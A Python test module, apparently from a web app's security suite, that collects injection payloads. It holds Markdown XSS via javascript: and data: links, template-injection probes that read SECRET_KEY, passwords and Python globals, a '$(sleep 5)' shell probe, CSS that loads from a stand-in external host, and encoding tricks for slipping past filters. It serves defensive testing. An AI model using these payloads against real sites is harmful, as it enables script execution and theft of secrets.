"""Strings in other languages than HTML that something on the way to a page may understand."""

from collections.abc import Iterator
from html import escape
from urllib.parse import quote

from tests.payloads.markup import RUN, from_texts
from tests.payloads.payload import ELSEWHERE, MARK, Payload

IMG = f"<img src=x onerror={RUN}>"

MARKDOWN = (
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](javascript&colon;{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](<javascript:{RUN}>)",
    f"[x]( javascript:{RUN} )",
    f"[x](\x01javascript:{RUN})",
    f"[x](javascript:%7A{RUN})",
    f"[x](vbscript:{MARK})",
    f"[x](data:text/html,{MARK})",
    f"[x](data:image/svg+xml;base64,{MARK})",
    f'[x](/ "{MARK}" onclick={RUN})',
    f"[x](/ '\"onmouseover={RUN} ')",
    f'[x](/"onmouseover={RUN}//)',
    f"[{IMG}](/)",
    f"![x](javascript:{RUN})",
    f"![x](//{ELSEWHERE}/x.png)",
    f'![x"onerror={RUN}//](x)',
    f'![x](x"onerror="{RUN})',
    f"![x](x 'y\" onerror={RUN} z')",
    f"[x]: javascript:{RUN}\n\n[x]",
    f'[x]: / "{IMG}"\n\n[x]',
    f"<javascript:{RUN}>",
    f'<https://agency.example/{MARK}" onclick={RUN}>',
    f"<x@agency.example?{MARK}>",
    f'https://agency.example/"onmouseover={RUN}',
    f'```"onload={RUN}\n{IMG}\n```',
    f'``` {MARK}"><img src=x onerror={RUN}>\nx\n```',
    f"`{IMG}`",
    f"    {IMG}",
    f"> {IMG}",
    f"- {IMG}",
    f"# {IMG}",
    f"|x|\n|-|\n|{IMG}|",
    f"{IMG}\n===",
    f"*{IMG}*",
    f"**<{MARK}-x>**",
    f"\\<img src=x onerror={RUN}>",
    f"<!-- [x](javascript:{RUN}) -->",
    f"<div {MARK}=1>\n\n[x](javascript:{RUN})\n\n</div>",
    f"[^x]: {IMG}\n\n[^x]",
    f"[x][y]\n\n[y]: <data:text/html,{MARK}>",
)

TEMPLATES = (
    "{{ 1337|add:1337 }}",
    "{{7*191}}",
    "{{ settings.SECRET_KEY }}",
    "{{ request.user.password }}",
    "{{ request.META }}",
    "{% debug %}",
    "{% include 'base.html' %}",
    "{% load static %}{% static 'x' %}",
    "{% csrf_token %}",
    "{% now 'Y' %}",
    "{% raw %}{{ x }}",
    "{# x #}",
    f"{{% verbatim %}}{IMG}",
    f"{{{{ '{IMG}'|safe }}}}",
    f"{{% autoescape off %}}{IMG}{{% endautoescape %}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ self.__init__.__globals__ }}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{$on.constructor('{RUN}')()}}}}",
    "${7*191}",
    "#{7*191}",
    "*{7*191}",
    "<%= 7*191 %>",
    "@(7*191)",
    "[[7*191]]",
    f"${{{RUN}}}",
    f"`${{{RUN}}}`",
    "$(sleep 5)",
    "%(password)s",
    "%s%s%s%n",
    "{0.__class__.__init__.__globals__}",
    "{user.password}",
    "{!r}",
    "{",
    "{{",
    "{%",
    "%",
)

STYLES = (
    f"red;background:url(//{ELSEWHERE}/x)",
    f"red}}*{{background:url(//{ELSEWHERE}/x)",
    f"expression({RUN})",
    f"url(javascript:{RUN})",
    f"url('//{ELSEWHERE}/x')",
    f"image-set('//{ELSEWHERE}/x' 1x)",
    f"red;behavior:url(//{ELSEWHERE}/x.htc)",
    f"red;-moz-binding:url(//{ELSEWHERE}/x.xml#y)",
    f"red;}}@import '//{ELSEWHERE}/x.css';",
    f"red;}}@font-face{{font-family:x;src:url(//{ELSEWHERE}/x.woff)}}",
    f"r\\65 d;background:u\\72l(//{ELSEWHERE}/x)",
    f"red/*{MARK}*/;position:fixed",
    f"var(--{MARK})",
    f"attr({MARK})",
)


def encoded() -> Iterator[str]:
    """What becomes markup when something decodes once too often. As it is, it is plain text."""
    for text in (IMG, f"<script>{RUN}</script>", f'"><svg onload={RUN}>'):
        yield escape(text)
        yield escape(escape(text))
        yield quote(text)
        yield quote(quote(text))
        yield "".join(f"&#{ord(c)};" for c in text)
        yield "".join(f"&#x{ord(c):06x}" for c in text)
        yield text.encode("unicode_escape").decode().replace("<", "\\u003c").replace(">", "\\x3e")
        yield text.replace("<", "\uff1c").replace(">", "\uff1e")
        yield text.replace("<", "\u02c2").replace('"', "\u02ba").replace(">", "\u02c3")
        yield text.replace("<", "\xc0\xbc").replace(">", "\xc0\xbe")
        yield text.replace("<", "+ADw-").replace(">", "+AD4-")
        yield text.replace("<", "\ufe64").replace(">", "\ufe65")
        yield text.replace("<", "%u003c").replace(">", "%u003e")
        yield text.replace("<", "=3C").replace(">", "=3E")
        yield "".join(f"\\{ord(c):o}" for c in text)


def languages() -> Iterator[Payload]:
    yield from (Payload("Markdown", text) for text in MARKDOWN)
    yield from (Payload("template", text) for text in TEMPLATES)
    yield from (Payload("encoded markup", text) for text in encoded())
    yield from from_texts("style", "style", STYLES)
